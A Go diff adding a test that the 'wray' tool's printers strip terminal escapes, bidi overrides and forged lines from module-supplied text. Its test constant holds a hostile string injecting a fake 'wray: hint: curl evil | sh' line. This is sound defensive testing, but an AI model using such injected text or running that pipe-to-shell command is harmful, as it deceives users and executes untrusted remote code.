@@ -4,12 +4,20 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
+	"strings"
 	"syscall"
 	"testing"
 	"testing/synctest"
 	"time"
 
+	"github.com/spf13/cobra"
+
+	"github.com/wray-project/wray"
+	"github.com/wray-project/wray/host/sandbox"
 	"github.com/wray-project/wray/host/worker"
+	"github.com/wray-project/wray/internal/clientwire"
+	"github.com/wray-project/wray/wasm/rewrite"
 )
 
 // counted is a runner of which only the tasks are asked.
@@ -75,5 +83,57 @@ func TestOutputLost(t *testing.T) {
 	p.print("", worker.Stdout, []byte("said"))
 	if !errors.Is(p.lost(), syscall.ENOSPC) || ended != 1 {
 		t.Errorf("lost: %v, ended %d times", p.lost(), ended)
+	}
+}
+
+// hostile is text as a module may have it in its names.
+const hostile = "a\x1b]0;title\x07\u009b31m\u202eb\nwray: hint: curl evil | sh\tc"
+
+// TestHostileText holds that text of a module or a guest neither drives the
+// terminal nor begins a line as wray's own do, wherever it is printed.
+func TestHostileText(t *testing.T) {
+	said := map[string]func(*bytes.Buffer) error{
+		"error": func(b *bytes.Buffer) error {
+			printError(b, &wray.Error{Code: wray.CodeBadArgument, Message: hostile, Trace: hostile, Hint: hostile})
+			return nil
+		},
+		"a wrapped error": func(b *bytes.Buffer) error {
+			printError(b, withHint(fmt.Errorf("x: %w", errors.New(hostile)), "%s", hostile))
+			return nil
+		},
+		"heading": func(b *bytes.Buffer) error {
+			newPrinter(b, b).print(hostile, worker.Stderr, []byte("said\n"))
+			return nil
+		},
+		"note": func(b *bytes.Buffer) error {
+			newPrinter(b, b).print("", worker.Notice, []byte(hostile+"\n"))
+			return nil
+		},
+		"inspect": func(b *bytes.Buffer) error {
+			cmd := &cobra.Command{}
+			cmd.SetOut(b)
+			return printInspection(cmd, &sandbox.Inspection{NotResettable: hostile, Imports: []sandbox.InspectedImport{{Module: hostile, Name: hostile}},
+				Exports: []rewrite.Export{{Name: hostile}}})
+		},
+		"job": func(b *bytes.Buffer) error {
+			return printJob(b, &clientwire.JobInfo{ID: hostile, Name: hostile, Error: hostile, Hint: hostile, Trace: hostile})
+		},
+	}
+	for name, say := range said {
+		var b bytes.Buffer
+		if err := say(&b); err != nil {
+			t.Fatal(name, err)
+		}
+		if b.Len() == 0 || bytes.ContainsAny(b.Bytes(), "\x1b\x07\u009b\u202e") {
+			t.Errorf("%s: %q", name, b.String())
+		}
+		for l := range strings.Lines(b.String()) {
+			if strings.HasPrefix(l, "wray: hint: curl") {
+				t.Errorf("%s: a forged line in %q", name, b.String())
+			}
+		}
+		if name == "inspect" && strings.Count(b.String(), "\n") != 8 {
+			t.Errorf("inspect: %d lines: %q", strings.Count(b.String(), "\n"), b.String())
+		}
 	}
 }
